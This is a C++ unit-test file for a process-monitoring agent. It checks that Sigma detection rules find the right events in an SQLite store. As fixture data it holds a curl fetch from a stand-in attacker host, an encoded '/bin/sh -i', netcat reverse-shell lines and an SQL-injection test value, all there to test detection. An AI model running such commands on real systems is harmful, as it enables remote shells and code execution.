// Sigma rules over a real store: the translated query, run by the guarded
// QueryEngine as the agent runs rules, finds the events it is meant to and
// leaves the near misses alone; the scan window bounds what it reads.

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <airssys/daemoneye/alert_pipeline.hpp>
#include <airssys/daemoneye/config.hpp>
#include <airssys/daemoneye/query_engine.hpp>
#include <airssys/daemoneye/rule.hpp>
#include <airssys/daemoneye/rule_runner.hpp>
#include <airssys/daemoneye/store.hpp>
#include <algorithm>
#include <array>
#include <chrono>
#include <ctime>
#include <set>
#include <string>
#include <tuple>
#include <vector>

#include "sigma_window.hpp"
#include "store_test_util.hpp"

namespace airssys::daemoneye {
namespace {

using test::proc;
using test::TempDir;

class SigmaStore : public ::testing::Test {
 protected:
  void SetUp() override {
    auto s = Store::open({.path = tmp_ / "d.db"});
    ASSERT_TRUE(s) << s.error();
    store_ = std::move(*s);
    // Parents in `processes`, so the store resolves parent_path / parent_cmdline.
    const std::vector<ProcessRecord> parents{proc(100, "bash", "/usr/bin/bash", "bash -i"),
                                             proc(110, "nginx", "/usr/sbin/nginx", "nginx: worker process")};
    ASSERT_TRUE(store_->apply_snapshot(parents));
    now_ = std::time(nullptr);
    add(201, "/usr/bin/curl", "curl -sSL http://evil.example/x.sh", 100);
    add(202, "/USR/BIN/CURL", "CURL -O http://a", 100);
    add(203, "/tmp/50%_off", "/tmp/50%_off --x");
    add(204, "/tmp/5000off", "/tmp/5000off");                       // near miss of the literal % and _
    add(205, "/opt/it's", "echo 'quoted' \\back\\slash");
    add(206, "/usr/bin/sh", "sh -c echo L2Jpbi9zaCAtaQ== | base64 -d");
    add(207, "/usr/bin/sh", "sh -c echo eC9iaW4vc2ggLWk= | base64 -d");  // base64 of "x/bin/sh -i"
    add(208, "/usr/bin/nc", "nc \u2013e /bin/sh 10.0.0.1 4444");       // en dash
    add(209, "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");
    add(210, "/usr/bin/nc", "nc -lvp 4444");                           // near miss: no -e
    add(213, "/usr/bin/ls", "ls *.txt");
    add(214, "/usr/bin/ls", "ls a.txt");                               // near miss of the literal *
    add(220, "/usr/bin/dash", "sh -c id", 110);                        // a web server's child
    auto hashed = event(230, "/usr/local/bin/tool", "tool");
    hashed.process.sha256 = std::string(64, 'b');
    events_.push_back(hashed);
    auto stop = event(240, "/usr/bin/curl", "curl -sSL http://evil.example/x.sh");
    stop.kind = EventKind::stop;                                      // not a process creation
    events_.push_back(stop);
    auto old = event(241, "/usr/bin/curl", "curl -sSL http://evil.example/x.sh");
    old.time = now_ - 3600;  // stored first, an hour old: before a first scan's window
    events_.insert(events_.begin(), old);
    ASSERT_TRUE(store_->append_events(events_));
    // An event whose cwd and cmdline are unknown (NULL), as a kernel event
    // for a process no collection saw may be.
    test::Peek peek(tmp_ / "d.db");
    peek.exec(fmt::format("INSERT INTO process_events (time, event, source, pid, parent, name, path, cmdline, cwd, "
                          "start_time) VALUES ({}, 'exec', 'ebpf', 250, 1, 'zsh', '/usr/bin/zsh', NULL, NULL, 1)",
                          now_));
    auto e = QueryEngine::open(tmp_ / "d.db");
    ASSERT_TRUE(e) << e.error();
    engine_ = std::move(*e);
  }

  ProcessEvent event(std::int64_t pid, std::string path, std::string cmdline, std::int64_t parent = 1) {
    ProcessEvent e;
    e.kind = EventKind::exec;
    e.source = EventSource::ebpf;
    e.time = now_;
    e.process = proc(pid, path.substr(path.rfind('/') + 1), path, std::move(cmdline), parent);
    return e;
  }
  void add(std::int64_t pid, std::string path, std::string cmdline, std::int64_t parent = 1) {
    events_.push_back(event(pid, std::move(path), std::move(cmdline), parent));
  }

  // The rule most scan tests run: every process whose Image ends in /curl.
  static auto curl_rule() {
    return parse_rule("title: curl\nid: curl\nlogsource: {product: linux, category: process_creation}\n"
                      "detection: {s: {Image|endswith: /curl}, condition: s}\n",
                      "curl.yml");
  }
  // Another guarded engine on the same store, under `limits`.
  auto engine_with(QueryLimits limits) const { return QueryEngine::open(tmp_ / "d.db", limits); }

  // The pids the rule's query returns, run as the agent's first scan runs it.
  std::set<std::int64_t> matches(const std::string& detection) {
    auto rule = parse_rule("title: t\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n" +
                               detection,
                           "t.yml");
    EXPECT_TRUE(rule) << (rule ? "" : rule.error().message);
    if (!rule) return {};
    auto window = sigma::ScanWindow::begin(*engine_, now_);
    EXPECT_TRUE(window) << (window ? "" : window.error().message);
    if (!window) return {};
    auto range = window->range(*engine_, EventMarks{}, rule->id);
    EXPECT_TRUE(range) << (range ? "" : range.error().message);
    if (!range) return {};
    const std::array params{QueryParam{":after", range->after}, QueryParam{":upto", range->upto}};
    auto r = engine_->run(rule->query, params);
    EXPECT_TRUE(r) << (r ? "" : r.error().message) << "\n" << rule->query;
    std::set<std::int64_t> pids;
    if (!r) return pids;
    std::size_t col = 0;
    while (col < r->columns.size() && r->columns[col] != "pid") ++col;
    for (const auto& row : r->rows) pids.insert(std::get<std::int64_t>(row.at(col)));
    return pids;
  }

  TempDir tmp_;
  std::unique_ptr<Store> store_;
  std::unique_ptr<QueryEngine> engine_;
  std::vector<ProcessEvent> events_;
  std::int64_t now_ = 0;
};

using Pids = std::set<std::int64_t>;

TEST_F(SigmaStore, CaseWildcardsAndEscapes) {
  EXPECT_EQ(matches("  s: {Image|endswith: /curl}\n  condition: s\n"), (Pids{201, 202}));
  EXPECT_EQ(matches("  s: {Image|endswith|cased: /curl}\n  condition: s\n"), (Pids{201}));
  EXPECT_EQ(matches("  s: {Image: '/usr/bin/c?rl'}\n  condition: s\n"), (Pids{201, 202}));
  EXPECT_EQ(matches("  s: {Image: '/usr/*/curl'}\n  condition: s\n"), (Pids{201, 202}));
  EXPECT_EQ(matches("  s: {Image|startswith: '/tmp/50%_'}\n  condition: s\n"), (Pids{203}));
  EXPECT_EQ(matches("  s: {Image|cased: '/tmp/50%_off'}\n  condition: s\n"), (Pids{203}));
  EXPECT_EQ(matches("  s: {CommandLine|contains: '\\*.txt'}\n  condition: s\n"), (Pids{213}));
  EXPECT_EQ(matches("  s: {CommandLine|contains|cased: '\\*.txt'}\n  condition: s\n"), (Pids{213}));
  EXPECT_EQ(matches("  s: {Image: \"/opt/it's\"}\n  condition: s\n"), (Pids{205}));
  EXPECT_EQ(matches("  s: {CommandLine|endswith: \"\\\\back\\\\slash\"}\n  condition: s\n"), (Pids{205}));
  EXPECT_EQ(matches("  s: {CommandLine|contains: \"'quoted'\"}\n  condition: s\n"), (Pids{205}));
  // A value built to escape its quotes finds nothing and breaks nothing.
  EXPECT_EQ(matches("  s: {CommandLine|contains: \"x' OR 1=1 OR '\"}\n  condition: s\n"), (Pids{}));
}

TEST_F(SigmaStore, ModifiersAndFields) {
  EXPECT_EQ(matches("  s: {CommandLine|contains|all: [curl, evil]}\n  condition: s\n"), (Pids{201}));
  EXPECT_EQ(matches("  s: {CommandLine|contains: [evil, 'http://a']}\n  condition: s\n"), (Pids{201, 202}));
  EXPECT_EQ(matches("  s: {CommandLine|re: 'curl\\s+-sSL'}\n  condition: s\n"), (Pids{201}));
  EXPECT_EQ(matches("  s: {CommandLine|re: '^curl -o'}\n  condition: s\n"), (Pids{}));
  EXPECT_EQ(matches("  s: {CommandLine|re|i: '^curl -o'}\n  condition: s\n"), (Pids{202}));
  EXPECT_EQ(matches("  s: {CommandLine|base64|contains: '/bin/sh -i'}\n  condition: s\n"), (Pids{206}));
  EXPECT_EQ(matches("  s: {CommandLine|base64offset|contains: '/bin/sh -i'}\n  condition: s\n"), (Pids{206, 207}));
  EXPECT_EQ(matches("  s: {CommandLine|windash|contains: ' -e '}\n  condition: s\n"), (Pids{208, 209}));
  EXPECT_EQ(matches("  s: {CommandLine|contains: ' -e '}\n  condition: s\n"), (Pids{209}));
  EXPECT_EQ(matches("  s: {ParentImage|endswith: /nginx}\n  condition: s\n"), (Pids{220}));
  EXPECT_EQ(matches("  s: {ParentCommandLine: 'bash -i', Image|endswith: /curl}\n  condition: s\n"), (Pids{201, 202}));
  EXPECT_EQ(matches("  s: {ProcessId: 213}\n  condition: s\n"), (Pids{213}));
  EXPECT_EQ(matches("  s: {ParentProcessId: 110}\n  condition: s\n"), (Pids{220}));
  EXPECT_EQ(matches("  s: {ProcessId|gte: 240, ProcessId|lt: 251}\n  condition: s\n"), (Pids{250}));
  EXPECT_EQ(matches(fmt::format("  s: {{Hashes: 'SHA256={}'}}\n  condition: s\n", std::string(64, 'B'))), (Pids{230}));
  EXPECT_EQ(matches("  s: {CurrentDirectory: null}\n  condition: s\n"), (Pids{250}));
  EXPECT_EQ(matches("  s: {CommandLine|exists: false}\n  condition: s\n"), (Pids{250}));
  EXPECT_EQ(matches("  keywords: ['4444', evil.example]\n  condition: keywords\n"), (Pids{201, 208, 209, 210}));
}

TEST_F(SigmaStore, ConditionsTreatAMissingFieldAsNoMatch) {
  // 250's cmdline is NULL: `not filter` holds for it, as in Sigma.
  EXPECT_EQ(matches("  s: {Image|endswith: [/zsh, /ls]}\n  filter: {CommandLine|contains: a.txt}\n"
                    "  condition: s and not filter\n"),
            (Pids{213, 250}));
  EXPECT_EQ(matches("  sel_nc: {Image|endswith: /nc}\n  sel_port: {CommandLine|contains: '4444'}\n"
                    "  condition: all of sel_*\n"),
            (Pids{208, 209, 210}));
  EXPECT_EQ(matches("  sel_nc: {Image|endswith: /nc}\n  sel_ls: {Image|endswith: /ls}\n  condition: 1 of them\n"),
            (Pids{208, 209, 210, 213, 214}));
  EXPECT_EQ(matches("  a: {Image|endswith: /nc}\n  b: {CommandLine|contains: '-e'}\n  c: {CommandLine|contains: '-l'}\n"
                    "  condition: a and (b or c) and not (c)\n"),
            (Pids{209}));
}

// The pids of a run's candidates.
std::set<std::int64_t> pids_of(const RuleRun& run) {
  std::set<std::int64_t> out;
  for (const auto& a : run.candidates) {
    const auto at = a.row_json.find("\"pid\":");
    if (at != std::string::npos) out.insert(std::stoll(a.row_json.substr(at + 6)));
  }
  return out;
}

TEST_F(SigmaStore, EachEventIsReadByOneScan) {
  auto rule = parse_rule("title: curl\nid: curl\nlevel: high\nlogsource: {product: linux, category: process_creation}\n"
                         "detection: {s: {Image|endswith: /curl}, condition: s}\n",
                         "curl.yml");
  ASSERT_TRUE(rule) << rule.error().message;
  // The guarded engine accepts it (regexp() is allowed) and the dedup key columns exist.
  auto cols = engine_->columns(rule->query);
  ASSERT_TRUE(cols) << cols.error();
  EXPECT_NE(std::ranges::find(*cols, "start_time"), cols->end());
  EXPECT_NE(std::ranges::find(*cols, "event_id"), cols->end());

  // A first scan reads the last two minutes: 201, 202; not the stop event
  // 240 nor 241, stored before them an hour old.
  EventMarks marks;
  RuleRun run = run_rules({*rule}, *engine_, "host", now_, marks);
  ASSERT_TRUE(run.failures.empty()) << run.failures.front().message;
  EXPECT_EQ(pids_of(run), (Pids{201, 202}));
  EXPECT_EQ(run.candidates[0].severity, Severity::high);
  EXPECT_NE(run.candidates[0].row_json.find("\"event_id\":"), std::string::npos) << run.candidates[0].row_json;
  // The next scan reads nothing again.
  EXPECT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{}));

  // A scan collected 150 s ago ran its rules; then an event of 200 s ago
  // was stored (events wait to be written; a retried batch is later
  // still). The old window (since the last scan's collection, at least two
  // minutes) started at now-150 and never read it.
  ASSERT_TRUE(store_->record_scan({.scan_id = 1, .time = now_ - 150}));
  auto late = event(242, "/usr/bin/curl", "curl late");
  late.time = now_ - 200;
  ASSERT_TRUE(store_->append_events(std::vector{late, event(243, "/usr/bin/curl", "curl now")}));
  EXPECT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{242, 243}));
  EXPECT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{}));

  // The window is a range on the rowid, in id order without a sort: the
  // work follows the new events, not the table.
  test::Peek peek(tmp_ / "d.db");
  auto plan = sqlite::prepare(peek.get(), "EXPLAIN QUERY PLAN " + rule->query);
  ASSERT_TRUE(plan) << plan.error().message;
  std::string details;
  while (::sqlite3_step(plan->get()) == SQLITE_ROW)
    details += reinterpret_cast<const char*>(::sqlite3_column_text(plan->get(), 3)) + std::string("\n");
  EXPECT_NE(details.find("SEARCH process_events USING INTEGER PRIMARY KEY (rowid>? AND rowid<?)"), std::string::npos)
      << details;
  EXPECT_EQ(details.find("TEMP B-TREE"), std::string::npos) << details;
}

TEST_F(SigmaStore, AFailedScanDoesNotMoveTheWindow) {
  auto rule = curl_rule();
  ASSERT_TRUE(rule) << rule.error().message;
  EventMarks marks;
  ASSERT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{201, 202}));
  // Enough new events that the query passes a zero time limit.
  std::vector<ProcessEvent> more;
  for (int i = 0; i < 2000; ++i) more.push_back(event(1000 + i, "/usr/bin/true", "true"));
  more.push_back(event(244, "/usr/bin/curl", "curl during the failure"));
  ASSERT_TRUE(store_->append_events(more));
  auto slow = engine_with(QueryLimits{.time = std::chrono::milliseconds(0)});
  ASSERT_TRUE(slow) << slow.error();
  RuleRun failed = run_rules({*rule}, **slow, "host", now_, marks);
  ASSERT_EQ(failed.failures.size(), 1u);
  EXPECT_TRUE(failed.candidates.empty());
  // The next scans read what the failed one could not (the first in a
  // halved window: the failure was the time limit).
  Pids seen;
  for (int scan = 0; scan < 3; ++scan) seen.merge(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)));
  EXPECT_EQ(seen, (Pids{244}));
}

TEST_F(SigmaStore, AWindowThatRunsOutOfTimeIsReadInSmallerSteps) {
  auto rule = curl_rule();
  ASSERT_TRUE(rule) << rule.error().message;
  EventMarks marks;
  ASSERT_EQ(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)), (Pids{201, 202}));
  std::vector<ProcessEvent> more;
  for (int i = 0; i < 300; ++i) more.push_back(event(1000 + i, "/usr/bin/true", "true"));
  more.push_back(event(244, "/usr/bin/curl", "curl at the end"));
  ASSERT_TRUE(store_->append_events(more));
  // A zero time limit fails any query past SQLite's first progress check
  // (1,000 steps): only small windows can be read. Without narrowing, the
  // whole window failed on every scan and 244 was never read.
  auto slow = engine_with(QueryLimits{.time = std::chrono::milliseconds(0)});
  ASSERT_TRUE(slow) << slow.error();
  Pids seen;
  std::size_t failures = 0;
  for (int scan = 0; scan < 200 && !seen.contains(244); ++scan) {
    RuleRun run = run_rules({*rule}, **slow, "host", now_, marks);
    for (const auto& f : run.failures) {
      ++failures;
      EXPECT_NE(f.message.find("its next window holds at most"), std::string::npos) << f.message;
    }
    seen.merge(pids_of(run));
  }
  EXPECT_EQ(seen, (Pids{244}));
  EXPECT_GT(failures, 0u);
}

TEST_F(SigmaStore, AnEventNoWindowCanReadIsSkipped) {
  // 600 comparisons per row: one row alone passes 1,000 steps, so under a
  // zero time limit no window can read it.
  std::string values;
  for (int i = 0; i < 600; ++i) values += fmt::format("{}x{}", i == 0 ? "" : ", ", i);
  auto rule = parse_rule("title: many\nid: many\nlogsource: {product: linux, category: process_creation}\n"
                         "detection: {s: {CommandLine|contains: [" + values + "]}, condition: s}\n",
                         "many.yml");
  ASSERT_TRUE(rule) << rule.error().message;
  EventMarks marks;
  ASSERT_TRUE(run_rules({*rule}, *engine_, "host", now_, marks).failures.empty());
  ASSERT_TRUE(store_->append_events(std::vector{event(246, "/usr/bin/a", "a"), event(247, "/usr/bin/b", "b")}));
  auto slow = engine_with(QueryLimits{.time = std::chrono::milliseconds(0)});
  ASSERT_TRUE(slow) << slow.error();
  std::vector<std::string> messages;
  for (int scan = 0; scan < 3; ++scan)
    for (auto& f : run_rules({*rule}, **slow, "host", now_, marks).failures) messages.push_back(f.message);
  // The 2 events fail together, then each alone, and each is skipped.
  ASSERT_EQ(messages.size(), 3u);
  EXPECT_NE(messages[0].find("its next window holds at most 1 events"), std::string::npos) << messages[0];
  EXPECT_NE(messages[1].find("alone passes the limits: skipped by this rule"), std::string::npos) << messages[1];
  EXPECT_NE(messages[2].find("alone passes the limits: skipped by this rule"), std::string::npos) << messages[2];
  // Both are behind the rule: with the limit back, nothing is left to read.
  RuleRun after = run_rules({*rule}, *engine_, "host", now_, marks);
  EXPECT_TRUE(after.failures.empty());
  EXPECT_TRUE(after.candidates.empty());
  test::Peek peek(tmp_ / "d.db");
  EXPECT_EQ(marks.covered.at("many"), peek.integer("SELECT max(id) FROM process_events"));
}

TEST_F(SigmaStore, ACutOffResultResumesAfterItsLastRow) {
  auto rule = curl_rule();
  ASSERT_TRUE(rule) << rule.error().message;
  std::vector<ProcessEvent> more;
  for (int i = 0; i < 5; ++i) more.push_back(event(300 + i, "/usr/bin/curl", "curl"));
  ASSERT_TRUE(store_->append_events(more));
  auto small = engine_with(QueryLimits{.max_rows = 3});
  ASSERT_TRUE(small) << small.error();
  EventMarks marks;
  RuleRun first = run_rules({*rule}, **small, "host", now_, marks);
  EXPECT_EQ(pids_of(first), (Pids{201, 202, 300}));
  EXPECT_TRUE(first.timings.at(0).truncated);
  EXPECT_EQ(pids_of(run_rules({*rule}, **small, "host", now_, marks)), (Pids{301, 302, 303}));
  EXPECT_EQ(pids_of(run_rules({*rule}, **small, "host", now_, marks)), (Pids{304}));
}

TEST_F(SigmaStore, AResultCutBeforeItsFirstRowKeepsTheWindowAndFails) {
  auto rule = curl_rule();
  ASSERT_TRUE(rule) << rule.error().message;
  ASSERT_TRUE(store_->append_events(std::vector{event(260, "/usr/bin/curl", "curl " + std::string(8000, 'x'))}));
  auto small = engine_with(QueryLimits{.max_bytes = 4000});
  ASSERT_TRUE(small) << small.error();
  EventMarks marks;
  // 201 and 202 fit; 260's row alone passes max_bytes and cuts the result.
  EXPECT_EQ(pids_of(run_rules({*rule}, **small, "host", now_, marks)), (Pids{201, 202}));
  const auto after_first = marks.covered.at("curl");
  RuleRun cut = run_rules({*rule}, **small, "host", now_, marks);
  EXPECT_TRUE(cut.candidates.empty());
  ASSERT_EQ(cut.failures.size(), 1u) << "a window that read nothing is not a silent success";
  EXPECT_NE(cut.failures[0].message.find("cut off before its first row"), std::string::npos)
      << cut.failures[0].message;
  EXPECT_EQ(marks.covered.at("curl"), after_first) << "the window stays where it was";
  // With room for the row, the next scans (the window narrowed, then
  // doubles back) read it.
  Pids seen;
  for (int scan = 0; scan < 10 && !seen.contains(260); ++scan) {
    seen.merge(pids_of(run_rules({*rule}, *engine_, "host", now_, marks)));
  }
  EXPECT_EQ(seen, (Pids{260}));
}

TEST_F(SigmaStore, WithNoDedupWindowAnEventIsRaisedOnce) {
  // dedup_window 0: nothing is suppressed, so only the window keeps two
  // scans from raising the same event (the old two-minute overlap did).
  auto rule = curl_rule();
  ASSERT_TRUE(rule) << rule.error().message;
  AlertsConfig config;
  config.dedup_window = std::chrono::seconds(0);
  config.sinks.clear();
  auto pipeline = AlertPipeline::create(config, nullptr, [](std::string_view) {});
  ASSERT_TRUE(pipeline) << pipeline.error();
  EventMarks marks;
  std::vector<std::size_t> raised;
  for (int scan = 0; scan < 3; ++scan) {
    if (scan == 2) {
      ASSERT_TRUE(store_->append_events(std::vector{event(245, "/usr/bin/curl", "curl")}));
    }
    RuleRun run = run_rules({*rule}, *engine_, "host", now_ + scan, marks);
    auto outcome = (*pipeline)->submit(std::move(run.candidates), now_ + scan);
    ASSERT_TRUE(outcome) << outcome.error();
    raised.push_back(outcome->raised.size());
  }
  EXPECT_EQ(raised, (std::vector<std::size_t>{2, 0, 1}));
}

TEST_F(SigmaStore, ARegexAtItsLimitIsReportedNotSilenced) {
  // Catastrophic backtracking on a long value: PCRE2 stops at its match
  // limit and the row counts as a match instead of failing the rule.
  test::Peek peek(tmp_ / "d.db");
  peek.exec(fmt::format("INSERT INTO process_events (time, event, source, pid, parent, name, path, cmdline, "
                        "start_time) VALUES ({}, 'exec', 'ebpf', 260, 1, 'x', '/x', '{}!', 1)",
                        now_, std::string(5000, 'a')));
  EXPECT_EQ(matches("  s: {CommandLine|re: '^(a|aa)+$'}\n  condition: s\n"), (Pids{260}));
}

TEST_F(SigmaStore, AKernelForkIsNotAProcessCreation) {
  // A fork seen by eBPF or the proc connector is a `start` carrying the
  // parent's image: not a process creation (else every child of a caught
  // process re-raises it). A poll `start` (first seen with its image) and
  // an exec from any source are.
  test::Peek peek(tmp_ / "d.db");
  for (const auto& [pid, event, source] : std::vector<std::tuple<int, std::string, std::string>>{
           {270, "start", "ebpf"}, {271, "start", "proc_connector"}, {272, "start", "poll"},
           {273, "exec", "proc_connector"}, {274, "exec", "poll"}}) {
    peek.exec(fmt::format("INSERT INTO process_events (time, event, source, pid, parent, name, path, cmdline, "
                          "start_time) VALUES ({}, '{}', '{}', {}, 1, 'forky', '/opt/forky', 'forky', 1)",
                          now_, event, source, pid));
  }
  EXPECT_EQ(matches("  s: {Image: /opt/forky}\n  condition: s\n"), (Pids{272, 273, 274}));
}

TEST_F(SigmaStore, ARegexFilterAtItsLimitDoesNotSilenceTheRule) {
  // The same catastrophic value in a filter under NOT: the undecidable row
  // must not count as filtered out (a padded command line would hide it).
  test::Peek peek(tmp_ / "d.db");
  peek.exec(fmt::format("INSERT INTO process_events (time, event, source, pid, parent, name, path, cmdline, "
                        "start_time) VALUES ({}, 'exec', 'ebpf', 261, 1, 'x', '/x', '{}!', 1)",
                        now_, std::string(5000, 'a')));
  EXPECT_EQ(matches("  s: {Image: /x}\n  f: {CommandLine|re: '^(a|aa)+$'}\n  condition: s and not f\n"), (Pids{261}));
  // A filter that decides (no limit reached) still filters.
  EXPECT_EQ(matches("  s: {Image: /x}\n  f: {CommandLine|re: '^a'}\n  condition: s and not f\n"), (Pids{}));
}

}  // namespace
}  // namespace airssys::daemoneye
